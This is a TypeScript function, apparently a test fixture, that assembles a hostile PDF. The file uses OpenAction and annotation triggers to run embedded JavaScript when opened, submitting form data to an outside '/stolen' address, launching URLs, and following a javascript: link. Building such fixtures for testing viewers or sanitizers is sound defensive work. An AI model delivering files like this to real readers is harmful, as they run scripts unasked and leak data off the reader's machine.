/** A PDF that tries, when it is opened, to run scripts, to start programs, to send forms and to open addresses. */
export function hostilePdf(): string {
  const script =
    'app.alert("hostile"); this.submitForm({cURL: "https://www.unodc.org/stolen"}); app.launchURL("https://www.unodc.org/launched");';
  const content = 'BT /F1 12 Tf 72 700 Td (A paper that is hostile to its readers.) Tj ET';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /AcroForm << /Fields [8 0 R] /NeedAppearances true >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O 6 0 R >> /Annots [7 0 R 8 0 R] >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Action /S /JavaScript /JS (${script.replace(/[()]/g, '\\$&')}) /Next << /S /URI /URI (https://www.unodc.org/opened) >> >>`,
    '<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [72 600 300 620] /AA << /K 6 0 R /F 6 0 R /C 6 0 R >> >>`,
  ];
  let file = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const at = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const start = file.length;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  return `${file}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
}
